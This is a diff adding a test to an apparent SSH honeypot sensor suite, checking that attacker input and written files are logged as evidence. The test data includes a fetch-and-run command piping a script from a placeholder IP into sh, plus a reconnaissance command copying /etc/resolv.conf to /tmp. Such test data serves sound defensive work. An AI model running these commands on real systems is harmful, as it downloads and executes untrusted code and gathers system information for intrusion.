@@ -103,6 +103,22 @@ describe('the SSH decoy', { skip: without('ssh', 'sftp', 'ssh-keygen') }, () => 
     assert.equal(result.data?.exitCode, 0);
   });
 
+  it('what a command is fed is evidence, and what it writes of the machine is not', async () => {
+    const script = 'wget -q http://192.0.2.47/fed.sh -O- | sh\n';
+    const args = ['-oPubkeyAuthentication=no', `-p${sensor.port('ssh')}`, 'root@127.0.0.1'];
+    const command = 'sh -s; cat /etc/resolv.conf > /tmp/recon';
+    const fed = await call('ssh', [...args, command], 'root', script);
+    assert.equal(fed.code, 0, fed.stderr);
+    const { norm, data, raw } = await sensor.event('ssh.exec.result', (one) => one.data?.stdin === script);
+    assert.deepEqual([norm.hosts, raw.len], [['192.0.2.47'], script.length]);
+    assert.ok(norm.commands.includes('sh'), norm.commands.join());
+    const left = data?.artefacts as { name: string }[];
+    assert.deepEqual(
+      left.map((one) => one.name),
+      ['/tmp/recon'],
+    );
+  });
+
   it('a key that was planted opens afterwards, for whoever planted it', async () => {
     const key = readFileSync(join(folder, 'key.pub'), 'utf8').trim();
     const byKey = [
